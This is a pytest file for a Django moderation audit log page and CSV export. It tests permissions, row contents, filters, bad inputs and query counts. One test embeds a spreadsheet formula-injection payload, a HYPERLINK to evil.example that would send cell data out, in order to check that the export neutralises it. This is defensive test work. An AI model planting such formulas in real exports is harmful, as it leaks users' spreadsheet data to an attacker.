"""The audit log page and its CSV export: who may see them, what a row
says, the filters, and bad filter values."""

import csv
import io
from datetime import datetime, timedelta

import pytest
from django.urls import reverse
from django.utils import timezone

from comments import audit, moderation
from comments.models import CommentStatus, ModerationEvent

pytestmark = pytest.mark.django_db

LOG = reverse("comments:audit-log")
LOG_CSV = reverse("comments:audit-log-csv")


def shown(response):
    """(comment pk, status it went to) for each row on the page."""
    return [(e.comment_id, e.to_status) for e in response.context["events"]]


def csv_rows(response):
    text = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(text)))


@pytest.fixture
def second_moderator(user_factory):
    return user_factory(moderator=True, display_name="Mod Max")


@pytest.fixture
def history(
    article,
    article_factory,
    member,
    other_member,
    moderator,
    second_moderator,
    comment_factory,
):
    """Pat's comment approved by Mo on one article; Ann's rejected by Max,
    with a note, on another."""
    other_article = article_factory(title="LDN and sleep", slug="ldn-and-sleep")
    pats = comment_factory(article=article, author=member, status="pending")
    moderation.approve(pats, by=moderator)
    anns = comment_factory(article=other_article, author=other_member, status="pending")
    moderation.reject(
        anns, by=second_moderator, reason="harmful_advice", note="Stop-dose advice"
    )
    return {"pats": pats, "anns": anns, "other_article": other_article}


# Who may see it ----------------------------------------------------------------


@pytest.mark.parametrize("url", [LOG, LOG_CSV])
def test_audit_log_redirects_anonymous_users_to_login(client, url):
    response = client.get(url)
    assert response.status_code == 302
    assert reverse("account_login") in response["Location"]


@pytest.mark.parametrize("url", [LOG, LOG_CSV])
def test_audit_log_is_forbidden_when_viewer_is_a_member(client, member, url):
    client.force_login(member)
    assert client.get(url).status_code == 403


@pytest.mark.parametrize("url", [LOG, LOG_CSV])
def test_audit_log_is_forbidden_when_viewer_is_an_author(client, author, url):
    client.force_login(author)
    assert client.get(url).status_code == 403


@pytest.mark.parametrize("url", [LOG, LOG_CSV])
def test_audit_log_refuses_post(client, moderator, url):
    client.force_login(moderator)
    assert client.post(url).status_code == 405


# What it shows ----------------------------------------------------------------


def test_audit_log_lists_every_event_newest_first(client, moderator, history):
    client.force_login(moderator)
    response = client.get(LOG)
    assert response.status_code == 200
    pats, anns = history["pats"], history["anns"]
    assert shown(response) == [
        (anns.pk, CommentStatus.REJECTED),
        (anns.pk, CommentStatus.PENDING),
        (pats.pk, CommentStatus.APPROVED),
        (pats.pk, CommentStatus.PENDING),
    ]
    assert ModerationEvent.objects.count() == 4
    html = response.content.decode()
    assert "4 events." in html
    assert 'class="nav-link active" aria-current="page" href="/moderation/log/"' in html


def test_audit_log_row_links_comment_article_and_member_and_names_actor(
    client, moderator, member, other_member, history
):
    client.force_login(moderator)
    html = client.get(LOG).content.decode()
    anns = history["anns"]
    row = html[html.index(f'id="event-{anns.events.last().pk}"') :]
    row = row[: row.index("</tr>")]
    assert f'href="{anns.get_absolute_url()}"' in row
    assert f'href="{history["other_article"].get_absolute_url()}"' in row
    assert "LDN and sleep" in row
    member_url = reverse("comments:member-detail", kwargs={"pk": other_member.pk})
    assert f'<a href="{member_url}">Another Ann</a>' in row
    assert "Mod Max" in row
    assert "Awaiting moderation → Rejected" in row
    assert "Medical advice that could cause harm" in row
    assert "Stop-dose advice" in row
    # a decision no person took names its rule
    assert "new member: held until 3 comments are approved" in html
    assert member.email not in html and other_member.email not in html


def test_audit_log_escapes_moderator_notes(client, moderator, article, comment_factory):
    comment = comment_factory(article=article, status="pending")
    moderation.reject(comment, by=moderator, reason="other", note="<b>bold</b>")
    client.force_login(moderator)
    html = client.get(LOG).content.decode()
    assert "<b>bold</b>" not in html
    assert "&lt;b&gt;bold&lt;/b&gt;" in html


def test_audit_log_is_paginated_by_50_and_pages_keep_the_filters(
    client, moderator, article, comment_factory
):
    for _ in range(30):
        # a new member each time: held on submission, then approved
        comment_factory(article=article, status="approved")
    assert ModerationEvent.objects.count() == 60
    client.force_login(moderator)
    first = client.get(LOG)
    assert len(first.context["events"]) == 50
    assert "Page 1 of 2" in first.content.decode()
    last = client.get(LOG, {"page": 2})
    assert len(last.context["events"]) == 10
    assert "?page=1" in last.content.decode()
    filtered = client.get(LOG, {"action": "approved"})
    assert len(filtered.context["events"]) == 30
    assert "Page 1 of" not in filtered.content.decode()
    html = client.get(LOG, {"article": article.slug}).content.decode()
    assert f"?article={article.slug}&amp;page=2" in html


# Filters -------------------------------------------------------------------


def test_audit_log_filters_by_moderator(client, moderator, second_moderator, history):
    client.force_login(moderator)
    response = client.get(LOG, {"moderator": second_moderator.pk})
    assert shown(response) == [(history["anns"].pk, CommentStatus.REJECTED)]


def test_audit_log_filters_decisions_the_rules_took(client, moderator, history):
    client.force_login(moderator)
    response = client.get(LOG, {"moderator": "rules"})
    assert shown(response) == [
        (history["anns"].pk, CommentStatus.PENDING),
        (history["pats"].pk, CommentStatus.PENDING),
    ]


def test_audit_log_filters_by_member_display_name_in_any_case(
    client, moderator, history
):
    client.force_login(moderator)
    response = client.get(LOG, {"member": "  patient PAT "})
    pats = history["pats"].pk
    assert shown(response) == [
        (pats, CommentStatus.APPROVED),
        (pats, CommentStatus.PENDING),
    ]


def test_audit_log_filters_by_article(client, moderator, history):
    client.force_login(moderator)
    response = client.get(LOG, {"article": "ldn-and-sleep"})
    anns = history["anns"].pk
    assert shown(response) == [
        (anns, CommentStatus.REJECTED),
        (anns, CommentStatus.PENDING),
    ]


def test_audit_log_filters_by_action(client, moderator, history):
    client.force_login(moderator)
    response = client.get(LOG, {"action": "approved"})
    assert shown(response) == [(history["pats"].pk, CommentStatus.APPROVED)]


def test_audit_log_filters_by_dates_inclusive(client, moderator, history):
    def day(y, m, d, hour):
        return timezone.make_aware(datetime(y, m, d, hour))

    pats, anns = history["pats"], history["anns"]
    ModerationEvent.objects.filter(comment=pats).update(created_at=day(2026, 3, 1, 9))
    ModerationEvent.objects.filter(comment=anns, to_status="pending").update(
        created_at=day(2026, 3, 2, 23)
    )
    ModerationEvent.objects.filter(comment=anns, to_status="rejected").update(
        created_at=day(2026, 3, 3, 0)
    )
    client.force_login(moderator)
    response = client.get(LOG, {"date_from": "2026-03-02", "date_to": "2026-03-02"})
    assert shown(response) == [(anns.pk, CommentStatus.PENDING)]
    response = client.get(LOG, {"date_from": "2026-03-02"})
    assert [s for _, s in shown(response)] == ["rejected", "pending"]
    response = client.get(LOG, {"date_to": "2026-03-01"})
    assert {pk for pk, _ in shown(response)} == {pats.pk}


def test_audit_log_combines_filters(client, moderator, history):
    client.force_login(moderator)
    response = client.get(LOG, {"member": "Patient Pat", "action": "rejected"})
    assert shown(response) == []
    assert "No events match these filters." in response.content.decode()


BAD_FILTERS = [
    ({"moderator": "someone"}, "Please choose a moderator from the list."),
    ({"member": "Nobody Here"}, "No member is called “Nobody Here”."),
    ({"article": "no-such-article"}, "No article has that address."),
    ({"action": "vanished"}, "Please choose a status from the list."),
    ({"date_from": "yesterday"}, "Please enter a date (YYYY-MM-DD)."),
    ({"date_to": "2026-02-30"}, "Please enter a date (YYYY-MM-DD)."),
    (
        {"date_from": "2026-03-05", "date_to": "2026-03-01"},
        "The end date is before the start date.",
    ),
]


@pytest.mark.parametrize(("params", "message"), BAD_FILTERS)
def test_audit_log_is_400_with_a_message_when_a_filter_is_invalid(
    client, moderator, history, params, message
):
    client.force_login(moderator)
    response = client.get(LOG, params)
    assert response.status_code == 400
    html = response.content.decode()
    assert message in html
    assert "a filter is not valid" in html
    assert response.context["events"] == []


def test_audit_log_is_400_when_moderator_filter_names_a_member(
    client, moderator, member, history
):
    client.force_login(moderator)
    response = client.get(LOG, {"moderator": member.pk})
    assert response.status_code == 400


@pytest.mark.parametrize("size", [3, 40])
def test_audit_log_queries_do_not_grow_with_the_log(
    client,
    moderator,
    second_moderator,
    article_factory,
    user_factory,
    comment_factory,
    django_assert_max_num_queries,
    size,
):
    articles = [article_factory() for _ in range(3)]
    authors = [user_factory() for _ in range(4)]
    for i in range(size):
        comment = comment_factory(
            article=articles[i % 3], author=authors[i % 4], status="pending"
        )
        if i % 2:
            moderation.approve(comment, by=moderator)
        else:
            moderation.reject(comment, by=second_moderator, reason="off_topic")
    client.force_login(moderator)
    with django_assert_max_num_queries(9):
        assert client.get(LOG).status_code == 200
    with django_assert_max_num_queries(11):
        response = client.get(
            LOG, {"moderator": moderator.pk, "article": articles[0].slug}
        )
        assert response.status_code == 200


# CSV export ------------------------------------------------------------------


def test_csv_export_is_an_attachment_with_a_header_and_every_event(
    client, moderator, member, history
):
    client.force_login(moderator)
    response = client.get(LOG_CSV)
    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert (
        response["Content-Disposition"] == 'attachment; filename="moderation-log.csv"'
    )
    rows = csv_rows(response)
    assert rows[0] == audit.CSV_HEADER
    assert len(rows) == 1 + ModerationEvent.objects.count()
    newest = dict(zip(rows[0], rows[1], strict=True))
    anns = history["anns"]
    assert newest["comment"] == str(anns.pk)
    assert newest["article"] == "LDN and sleep"
    assert newest["member"] == "Another Ann"
    assert newest["actor"] == "Mod Max"
    assert (newest["from"], newest["to"]) == ("pending", "rejected")
    assert newest["reason"] == "harmful_advice"
    assert newest["note"] == "Stop-dose advice"
    assert rows[-1][rows[0].index("actor")].startswith("new member: held")
    assert member.email not in b"".join(client.get(LOG_CSV).streaming_content).decode()


def test_csv_export_applies_the_filters(client, moderator, second_moderator, history):
    client.force_login(moderator)
    rows = csv_rows(client.get(LOG_CSV, {"moderator": second_moderator.pk}))
    assert len(rows) == 2
    assert rows[1][rows[0].index("to")] == "rejected"


@pytest.mark.parametrize(("params", "message"), BAD_FILTERS)
def test_csv_export_is_400_with_a_message_when_a_filter_is_invalid(
    client, moderator, history, params, message
):
    client.force_login(moderator)
    response = client.get(LOG_CSV, params)
    assert response.status_code == 400
    text = response.content.decode()
    assert "The export was not made" in text
    assert message in text


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_csv_export_defuses_formulas_when_a_cell_starts_with_one(
    client, moderator, article, comment_factory, start
):
    comment = comment_factory(article=article, status="pending")
    note = f'{start}HYPERLINK("https://evil.example/?"&A1,"Click")'
    moderation.reject(comment, by=moderator, reason="other", note=note)
    client.force_login(moderator)
    rows = csv_rows(client.get(LOG_CSV))
    assert rows[1][rows[0].index("note")] == "'" + note


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("a=1", "a=1"),
        ("", ""),
        (None, ""),
        (42, "42"),
    ],
)
def test_safe_cell_quotes_only_what_a_spreadsheet_would_run(value, cell):
    assert audit.safe_cell(value) == cell


@pytest.mark.parametrize("size", [3, 40])
def test_csv_export_queries_do_not_grow_with_the_log(
    client,
    moderator,
    article,
    user_factory,
    comment_factory,
    django_assert_max_num_queries,
    size,
):
    authors = [user_factory() for _ in range(4)]
    for i in range(size):
        comment_factory(article=article, author=authors[i % 4], status="approved")
    client.force_login(moderator)
    with django_assert_max_num_queries(7):
        response = client.get(LOG_CSV)
        rows = csv_rows(response)
    assert len(rows) == 1 + ModerationEvent.objects.count()


def test_csv_export_times_are_iso_8601(client, moderator, history):
    when = timezone.now() - timedelta(days=3)
    ModerationEvent.objects.update(created_at=when)
    client.force_login(moderator)
    rows = csv_rows(client.get(LOG_CSV))
    assert rows[1][0] == timezone.localtime(when).isoformat()
